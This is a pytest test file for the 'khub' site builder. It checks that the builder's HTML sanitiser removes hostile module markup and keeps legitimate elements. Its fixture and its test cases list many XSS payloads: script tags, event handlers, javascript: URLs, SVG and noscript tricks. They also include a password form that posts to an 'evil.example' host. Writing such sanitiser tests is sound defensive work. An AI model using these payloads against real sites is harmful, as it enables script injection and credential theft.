"""Module HTML cannot run in readers' browsers: every built page passes khub.render.sanitize (nh3).

A copy of the repository's hub gets one hostile module trying every way in: raw HTML,
Markdown links and images, attr_list, |safe, autoescape false, SVG, frames, forms, styles,
meta refresh. The built site holds none of it, while the real modules keep every element
khub's helpers emit: the same DOM as a build without the sanitiser.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup, Comment, Tag
from click.testing import CliRunner

from khub.cli.main import main
from khub.cli.site import run_generate
from khub.data.load import load
from khub.render.sanitize import EXTENSION, sanitize
from khub.site.builder import build_env, mkdocs_build
from tests.kit.hubs import TODAY, copy_hub, copy_repo
from tests.kit.tree import snapshot
from tests.site.htmlcheck import fact_elements, pages, soup
from tests.site.kit import Built

pytestmark = pytest.mark.slow

HOSTILE = """---
title: Hostile module
module: hostile
summary: Tries every way in.
---
## Prices <img src=x onerror=alert(1)> &lt;script&gt;alert(2)&lt;/script&gt;

Harmless paragraph: {{ fact("api-input-price.claude-opus-4-8") }}.

<script>alert(3)</script>
<img src="x.png" onerror="alert(4)">

[js link](javascript:alert(5)) ![js image](javascript:alert(6)) [vb link](vbscript:msgbox(7))
![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOCk+PC9zdmc+)
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)

A paragraph with attributes.
{: onmouseover="alert(10)" style="position: fixed; inset: 0" }

[hover me](https://example.org/){: onclick="alert(11)" .khub-fact }

{{ '<script>alert(12)</script>'|safe }}
{% autoescape false %}{{ '<img src=y onerror=alert(13)>' }}{% endautoescape %}

<svg onload="alert(14)"><script>alert(15)</script><a href="javascript:alert(16)"><text>t</text></a>
<animate attributeName="href" to="javascript:alert(17)"/><foreignObject><iframe
src="https://evil.example/"></iframe></foreignObject><use href="https://evil.example/s.svg#a"/>
<path d="M0 0" style="fill: url(https://evil.example/p)"/></svg>

<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal" method="post" target="_top"><input type="password"
name="pw"><button formaction="https://evil.example/">Send</button></form>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<div data-khub-calc="api-cost" data-khub-src="https://evil.example/c.json"
data-md-component="announce">fake calculator</div>
<a href="jav&#x09;ascript:alert(18)">tab in the scheme</a>
<img src="https://evil.example/track.png"> <img src="//evil.example/track.png">
<p style="background: url(https://evil.example/bg.png)">styled</p>
<math><mtext><script>alert(19)</script></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(20)>"></p></noscript>
<template><script>alert(21)</script></template>
<textarea><script>alert(22)</script></textarea>

Last harmless line.
"""

BAD_SCHEME = re.compile(r"^(javascript|data|vbscript):")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "cite", "poster")
GONE = (
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "base",
    "link",
    "meta",
    "button",
    "textarea",
    "math",
    "template",
    "noscript",
    "animate",
    "foreignobject",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """Return the repository's hub plus the hostile module, built as `khub build` does."""
    root = copy_repo(tmp_path_factory.mktemp("sanitize") / "hub")
    (root / "content" / "hostile.md").write_text(HOSTILE, encoding="utf-8")
    run_generate(root, TODAY)
    factset, _ = load(root, today=TODAY)
    return Built(root, mkdocs_build(root), factset)


def _article(page: Path) -> Tag:
    article = soup(page).find("article")
    assert isinstance(article, Tag), page
    return article


def _scheme(url: str) -> str:
    return "".join(ch for ch in url if ch > " ").lower()


# --- nothing hostile survives ------------------------------------------------------------


def test_the_hostile_markup_reached_the_markdown(hostile: Built) -> None:
    markdown = (hostile.root / "build" / "docs" / "hostile.md").read_text(encoding="utf-8")
    assert "<script>alert(12)</script>" in markdown  # |safe let it through the template
    assert "<img src=y onerror=alert(13)>" in markdown  # so did autoescape false
    assert "<script>alert(3)</script>" in markdown


def test_no_page_holds_handlers_or_dangerous_urls(hostile: Built) -> None:
    for page in pages(hostile.site):
        for tag in soup(page).find_all(True):
            handlers = [name for name in tag.attrs if name.lower().startswith("on")]
            assert handlers == [], (page, tag.name, handlers)
            for name in URL_ATTRIBUTES:
                value = tag.get(name)
                if value is not None:
                    assert not BAD_SCHEME.match(_scheme(str(value))), (page, tag.name, value)


def test_no_page_runs_a_script_it_did_not_ship(hostile: Built) -> None:
    for page in pages(hostile.site):
        html = soup(page)
        for script in html.find_all("script"):
            assert "alert(" not in script.get_text(), page
            src = str(script.get("src") or "")
            assert not urlsplit(src).scheme and not src.startswith("//"), (page, src)
        assert html.select('meta[http-equiv="refresh" i]') == [], page
        assert html.select("base") == [], page


def test_the_hostile_page_keeps_only_allowed_markup(hostile: Built) -> None:
    article = _article(hostile.site / "hostile" / "index.html")
    names = {tag.name for tag in article.find_all(True)}
    assert names.isdisjoint(GONE), names & set(GONE)
    assert not article.find_all(string=lambda text: isinstance(text, Comment))
    for tag in article.find_all(True):
        assert not [a for a in tag.attrs if a.startswith("data-md")], tag
        style = str(tag.get("style") or "")
        assert "url(" not in style and "position" not in style, (tag.name, style)
    for image in article.find_all("img"):
        src = str(image.get("src") or "")
        assert not urlsplit(src).scheme and not src.startswith("//"), src
    for form in article.find_all("form"):
        assert set(form.attrs) <= {"class", "novalidate", "aria-label"}, form.attrs
    assert [i.get("type") for i in article.find_all("input")] == [None]
    fake = article.find("div", attrs={"data-khub-calc": True})
    assert isinstance(fake, Tag) and "data-khub-src" not in fake.attrs


def test_the_hostile_page_still_shows_its_text_and_facts(hostile: Built) -> None:
    page = hostile.site / "hostile" / "index.html"
    text = _article(page).get_text(" ", strip=True)
    assert "Harmless paragraph:" in text and "Last harmless line." in text
    assert "<script>alert(2)</script>" in text  # typed as text, shown as text
    assert [e["data-fact-id"] for e in fact_elements(page)] == ["api-input-price.claude-opus-4-8"]
    heading = next(h for h in _article(page).find_all("h2") if h.get_text().startswith("Prices"))
    image = heading.find("img")
    assert isinstance(image, Tag) and set(image.attrs) == {"src"}
    toc = [a.get_text(" ", strip=True) for a in soup(page).select("nav.md-nav--secondary a")]
    assert any(t.startswith("Prices") and "<script>" in t for t in toc), toc


def test_zensical_sanitises_the_same_page(hostile: Built) -> None:
    config = (hostile.root / "mkdocs.yml").read_text(encoding="utf-8")
    (hostile.root / "zensical.yml").write_text(
        config.replace("site_dir: site", "site_dir: site-zensical"), encoding="utf-8"
    )
    proc = subprocess.run(
        [str(Path(sys.executable).parent / "zensical"), "build", "--strict", "-f", "zensical.yml"],
        cwd=hostile.root,
        env=build_env(),
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    article = _article(hostile.root / "site-zensical" / "hostile" / "index.html")
    assert {t.name for t in article.find_all(True)}.isdisjoint(GONE)
    for tag in article.find_all(True):
        assert not [a for a in tag.attrs if a.startswith("on")], tag.name
    assert "Last harmless line." in article.get_text()


# --- khub's own markup survives untouched ------------------------------------------------


def _without_sanitiser(root: Path) -> Path:
    """Build the same build/docs without khub.render.sanitize, straight through mkdocs."""
    config = (root / "mkdocs.yml").read_text(encoding="utf-8")
    plain = config.replace(f"  - {EXTENSION}\n", "").replace("site_dir: site", "site_dir: raw")
    assert EXTENSION not in plain
    (root / "raw.yml").write_text(plain, encoding="utf-8")
    argv = [sys.executable, "-m", "mkdocs", "build", "--strict", "-f", "raw.yml"]
    proc = subprocess.run(argv, cwd=root, env=build_env(), capture_output=True, check=False)
    assert proc.returncode == 0, proc.stderr
    return root / "raw"


def _dom(page: Path) -> list[tuple[str, tuple[tuple[str, str], ...], str]]:
    """Return an article's elements with attributes and own text, in the sanitiser's form."""
    article = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml").find("article")
    assert isinstance(article, Tag), page
    found = []
    for tag in article.find_all(True):
        attrs = {
            k: " ".join(v) if isinstance(v, list) else str(v)
            for k, v in tag.attrs.items()
            if k not in ("xmlns", "xmlns:xlink")  # inline SVG needs neither
        }
        if "style" in attrs:  # nh3 rewrites declarations without spaces and quotes url()
            attrs["style"] = re.sub(r"\s+|\"", "", attrs["style"]).rstrip(";")
        own = "".join(
            s
            for s in tag.find_all(string=True, recursive=False)
            if s.strip() and not isinstance(s, Comment)  # nh3 drops comments
        )
        found.append((tag.name, tuple(sorted(attrs.items())), own))
    return found


def test_real_pages_are_the_same_as_without_the_sanitiser(hostile: Built) -> None:
    raw = _without_sanitiser(hostile.root)
    compared = 0
    for page in pages(hostile.site):
        rel = page.relative_to(hostile.site)
        if "hostile" in rel.parts or soup(page).find("article") is None:
            continue
        assert _dom(page) == _dom(raw / rel), rel
        compared += 1
    assert compared > 10


def test_calculators_charts_footnotes_and_facts_survive(hostile: Built) -> None:
    page = hostile.site / "open-vs-closed" / "index.html"
    article = _article(page)
    calculators = article.select("div[data-khub-calc]")
    assert calculators
    for calc in calculators:
        assert calc["data-khub-src"] == "api/v1/calculators.json"
        assert calc.select_one("form.khub-calc__form input, form.khub-calc__form select")
    charts = article.select("figure.khub-chart svg[role=img]")
    assert len(charts) == 2
    for svg in charts:
        assert svg.find_all("text") and svg.get("viewbox")
        assert svg.find("title") is not None and svg.find("desc") is not None
    assert article.select("sup a.footnote-ref") and article.select("div.footnote li")
    assert article.select("a.headerlink")
    assert len(fact_elements(page)) > 20


# --- the build refuses a config without the sanitiser -----------------------------------


def _drop_sanitiser(hub: Path) -> int:
    """Drop khub.render.sanitize from the hub's mkdocs.yml; return the markdown_extensions line."""
    config = hub / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert f"  - {EXTENSION}\n" in text
    text = text.replace(f"  - {EXTENSION}\n", "")
    config.write_text(text, encoding="utf-8")
    return text.split("\n").index("markdown_extensions:") + 1


@pytest.mark.parametrize("command", ["build", "serve"])
def test_khub_refuses_to_build_without_the_sanitiser(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    hub = copy_hub(tmp_path / "hub")
    line = _drop_sanitiser(hub)
    monkeypatch.chdir(hub)
    result = CliRunner().invoke(main, [command, "--today", TODAY.isoformat()])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.stderr == (
        f"error: mkdocs.yml:{line}: markdown_extensions does not enable khub.render.sanitize, "
        "the HTML sanitiser (add '- khub.render.sanitize' to markdown_extensions; khub will not "
        "build without it)\n"
    )
    assert not (hub / "build").exists() and not (hub / "site").exists()


def test_a_config_without_extensions_is_refused_and_site_kept(tmp_path: Path) -> None:
    hub = copy_hub(tmp_path / "hub")
    (hub / "site").mkdir()
    (hub / "site" / "index.html").write_text("old site\n", encoding="utf-8")
    before = snapshot(hub / "site")
    (hub / "mkdocs.yml").write_text("site_name: Bare\ndocs_dir: build/docs\n", encoding="utf-8")
    env = dict(os.environ, KHUB_TODAY=TODAY.isoformat())
    proc = subprocess.run(
        [str(Path(sys.executable).parent / "khub"), "build"],
        cwd=hub,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert proc.returncode == 1
    assert proc.stdout == ""
    assert proc.stderr == (
        "error: mkdocs.yml: markdown_extensions does not enable khub.render.sanitize, "
        "the HTML sanitiser (add '- khub.render.sanitize' to markdown_extensions; khub will not "
        "build without it)\n"
    )
    assert snapshot(hub / "site") == before and not (hub / "build").exists()


# --- the allow-list, case by case --------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"),
        ('<img src="data:image/png;base64,AA">', "<img>"),
        ('<img src="https://evil.example/t.png" alt="t">', '<img alt="t">'),
        ('<img src="assets/charts/x.svg" alt="t">', '<img src="assets/charts/x.svg" alt="t">'),
        (
            '<a href="https://example.org/" target="_blank">x</a>',
            '<a href="https://example.org/">x</a>',
        ),
        ('<a href="mailto:ed@example.org">x</a>', '<a href="mailto:ed@example.org">x</a>'),
        ('<svg><path style="fill: u\\72 l(https://e/x)"></path></svg>', "<svg><path></path></svg>"),
        ('<svg><path style="fill: URL(//e/x)"></path></svg>', "<svg><path></path></svg>"),
        ('<svg><path fill="url(#a)"></path></svg>', '<svg><path fill="url(#a)"></path></svg>'),
        ('<svg><use href="#g"></use></svg>', '<svg><use href="#g"></use></svg>'),
        ('<svg><use xlink:href="data:x"></use></svg>', "<svg><use></use></svg>"),
        ('<input type="password" name="p" autocomplete="current-password">', '<input name="p">'),
        ('<div data-khub-src="../../x.json">x</div>', '<div data-khub-src="../../x.json">x</div>'),
        (
            '<div data-khub-src="//e.example/x.json" data-md-state="x" data-x="1">x</div>',
            "<div>x</div>",
        ),
        (
            '<table><tr><td style="text-align: right; position: fixed">1</td></tr></table>',
            '<table><tbody><tr><td style="text-align:right">1</td></tr></tbody></table>',
        ),
        (
            '<svg><path style="fill: #fff; stroke: rgb(1,2,3)"></path></svg>',
            '<svg><path style="fill:#fff;stroke:rgb(1, 2, 3)"></path></svg>',
        ),
        ('<p style="color: red">x</p>', "<p>x</p>"),
        # a fact link's popover data: on links only, in the shape khub writes it
        (
            '<a class="khub-fact" data-fact-id="a.b" data-status="vendor-reported" '
            'data-as-of="2026-06-30" data-verified="2026-06-30" data-source="T (P)" '
            'data-stale-after="45" data-failing-since="2026-11-01" href="f.md#b">1</a>',
            '<a class="khub-fact" data-fact-id="a.b" data-status="vendor-reported" '
            'data-as-of="2026-06-30" data-verified="2026-06-30" data-source="T (P)" '
            'data-stale-after="45" data-failing-since="2026-11-01" href="f.md#b">1</a>',
        ),
        (
            '<a data-status="trusted&lt;b&gt;" data-as-of="soon" data-verified="2026-6-3" '
            'data-stale-after="-1" data-failing-since="x" data-popover="1" popover '
            'data-source="&lt;img src=x onerror=alert(1)&gt;" onmouseover="alert(1)">1</a>',
            '<a data-source="&lt;img src=x onerror=alert(1)&gt;">1</a>',
        ),
        ('<span data-status="official" data-source="x">1</span>', "<span>1</span>"),
        ('<div data-formula="1 + 1" data-verified="2026-06-30">1</div>', "<div>1</div>"),
        (f'<a data-formula="{"x" * 1001}">1</a>', "<a>1</a>"),
        (
            '<span class="khub-label" data-search-exclude="anything">vendor</span>',
            '<span class="khub-label" data-search-exclude="">vendor</span>',
        ),
        ("<p>a<!-- note -->b</p>", "<p>ab</p>"),
    ],
)
def test_sanitize_case_by_case(html: str, clean: str) -> None:
    assert sanitize(html) == clean
